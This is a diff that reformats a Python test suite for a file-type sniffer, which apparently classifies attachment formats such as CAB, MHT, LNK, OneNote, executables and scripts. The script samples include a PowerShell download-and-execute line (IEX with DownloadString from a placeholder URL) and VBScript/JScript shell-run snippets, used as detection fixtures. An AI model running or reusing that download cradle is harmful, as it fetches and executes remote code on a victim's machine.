@@ -51,10 +51,12 @@ def guid_le(text: str) -> bytes:
 
 def make_cab(*names: str) -> bytes:
     """CFHEADER + one CFFOLDER + CFFILE records (no data blocks; the sniffer reads names only)."""
-    files = b"".join(struct.pack("<IIHHHH", 10, 0, 0, 0, 0, 0x20) + n.encode() + b"\0"
-                     for n in names)
-    header = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, 0, 0, 36 + 8, 0, 3, 1, 1,
-                         len(names), 0, 0, 0)
+    files = b"".join(
+        struct.pack("<IIHHHH", 10, 0, 0, 0, 0, 0x20) + n.encode() + b"\0" for n in names
+    )
+    header = struct.pack(
+        "<4sIIIIIBBHHHHH", b"MSCF", 0, 0, 0, 36 + 8, 0, 3, 1, 1, len(names), 0, 0, 0
+    )
     return header + struct.pack("<IHH", 0, 1, 0) + files
 
 
@@ -70,7 +72,7 @@ EML = (
     b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello\r\n"
 )
 MHT = (
-    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01\"\r\n\r\n"
+    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart_01"\r\n\r\n'
     b"------=_NextPart_01\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n"
     b"------=_NextPart_01\r\nContent-Location: file:///C:/editdata.mso\r\n"
     b"Content-Type: application/x-mso\r\n\r\nQWN0aXZlTWltZQAAAA\r\n"
@@ -121,9 +123,12 @@ CASES: list[tuple[str, bytes, str]] = [
     ("mht", MHT, "mht"),
     ("activemime", b"ActiveMime\x00\x00\x01\xf0" + bytes(40), "activemime"),
     ("activemime-b64", b"QWN0aXZlTWltZQAAAAAB8AAAAP", "activemime"),
-    ("slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K\"hi\"\r\nE\r\n", "slk"),
-    ("lnk", b"\x4c\x00\x00\x00" + guid_le("00021401-0000-0000-C000-000000000046") + bytes(56),
-     "lnk"),
+    ("slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K"hi"\r\nE\r\n', "slk"),
+    (
+        "lnk",
+        b"\x4c\x00\x00\x00" + guid_le("00021401-0000-0000-C000-000000000046") + bytes(56),
+        "lnk",
+    ),
     ("onenote", guid_le("{7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}") + bytes(64), "onenote"),
     ("pe", pe_bytes(), "pe"),
     ("elf", b"\x7fELF\x02\x01\x01" + bytes(57), "elf"),
@@ -150,8 +155,11 @@ CASES: list[tuple[str, bytes, str]] = [
     ("batch", b"@echo off\r\nSETLOCAL\r\nstart evil.exe\r\n", "script"),
     ("vbscript", b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "script"),
     ("jscript", b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc");\n', "script"),
-    ("powershell", b"$u = 'http://x'\nIEX (New-Object Net.WebClient).DownloadString($u)\n",
-     "script"),
+    (
+        "powershell",
+        b"$u = 'http://x'\nIEX (New-Object Net.WebClient).DownloadString($u)\n",
+        "script",
+    ),
     ("hta", b'<html><head><HTA:APPLICATION ID="x"></head><script>1</script></html>', "script"),
     ("text", "Grüße, please see the invoice.\n".encode(), "text"),
     ("text-cp1252", "Ol\xe1, segue a fatura em anexo.\n".encode("cp1252"), "text"),
@@ -160,10 +168,18 @@ CASES: list[tuple[str, bytes, str]] = [
     ("yaml-is-not-mail", b"name: x\ndate: 2024-01-01\nfrom: a\nto: b\n", "text"),
     ("http-dump-is-not-mail", b"HTTP/1.1 200 OK\r\nDate: x\r\n\r\n<html></html>", "html"),
     ("id3-prose", b"ID3 tags describe songs.\n", "text"),
-    ("mht-browser", b"From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
-     b"Content-Type: multipart/related;\r\n\ttype=\"text/html\"\r\n\r\n", "mht"),
-    ("eml-related", b"From: a@x\r\nTo: b@y\r\nMessage-ID: <1@x>\r\n"
-     b"Content-Type: multipart/related; boundary=b\r\n\r\n", "eml"),
+    (
+        "mht-browser",
+        b"From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/related;\r\n\ttype="text/html"\r\n\r\n',
+        "mht",
+    ),
+    (
+        "eml-related",
+        b"From: a@x\r\nTo: b@y\r\nMessage-ID: <1@x>\r\n"
+        b"Content-Type: multipart/related; boundary=b\r\n\r\n",
+        "eml",
+    ),
     ("readme-with-js", b"# Usage\n\nCall `require('x')` and you are done.\n", "text"),
     ("random", random.Random(0).randbytes(4096), "unknown"),
 ]
@@ -179,8 +195,11 @@ def test_sniff_kind(data: bytes, kind: str) -> None:
 
 def test_sniff_details() -> None:
     xlsm = sniff(make_zip([*OOXML_BASE, "xl/workbook.xml", "xl/vbaProject.bin"]))
-    assert xlsm == Sniffed(kind="xlsm", mime="application/vnd.ms-excel.sheet.macroEnabled.12",
-                           extensions=(".xlsm", ".xltm", ".xlam"))
+    assert xlsm == Sniffed(
+        kind="xlsm",
+        mime="application/vnd.ms-excel.sheet.macroEnabled.12",
+        extensions=(".xlsm", ".xltm", ".xlam"),
+    )
     assert sniff(b"#!/usr/bin/env python3\nprint(1)\n").extensions[0] == ".py"
     assert sniff(b"#!/bin/bash\nls\n").extensions[0] == ".sh"
     assert ".bat" in sniff(b"@echo off\r\n").extensions
@@ -195,16 +214,38 @@ def test_macro_part_wins_over_content_types() -> None:
 
 def test_large_inputs_are_fast() -> None:
     noise = random.Random(1).randbytes(50 * 1024 * 1024)
-    for data in (noise, b"PK\x03\x04" + noise, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise,
-                 b"a" * len(noise), b"MZ" + noise):
+    for data in (
+        noise,
+        b"PK\x03\x04" + noise,
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise,
+        b"a" * len(noise),
+        b"MZ" + noise,
+    ):
         start = time.perf_counter()
         sniff(data)
         assert time.perf_counter() - start < 0.5
 
 
-MAGICS = [b"", b"PK\x03\x04", b"PK\x05\x06", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"MSCF\0\0\0\0",
-          b"MZ", b"BM", b"\0\0\1\0", b"RIFF", b"\0\0\0\x18ftyp", b"\xca\xfe\xba\xbe", b"BZh9",
-          b"#!", b"Received: x\r\nFrom: y\r\n", b"<?xml", b"<html>", b"\xff\xfe", b"\xef\xbb\xbf"]
+MAGICS = [
+    b"",
+    b"PK\x03\x04",
+    b"PK\x05\x06",
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+    b"MSCF\0\0\0\0",
+    b"MZ",
+    b"BM",
+    b"\0\0\1\0",
+    b"RIFF",
+    b"\0\0\0\x18ftyp",
+    b"\xca\xfe\xba\xbe",
+    b"BZh9",
+    b"#!",
+    b"Received: x\r\nFrom: y\r\n",
+    b"<?xml",
+    b"<html>",
+    b"\xff\xfe",
+    b"\xef\xbb\xbf",
+]
 
 
 @settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@@ -256,7 +297,7 @@ def test_extension_matches(name: str, sniffed: Sniffed, ok: bool) -> None:
     [
         ("application/pdf", ZIP, False),
         ("application/pdf", PDF, True),
-        ("Application/PDF; name=\"a.pdf\"", PDF, True),
+        ('Application/PDF; name="a.pdf"', PDF, True),
         ("application/octet-stream", ZIP, True),
         ("application/octet-stream", XLSM, True),
         ("", PDF, True),
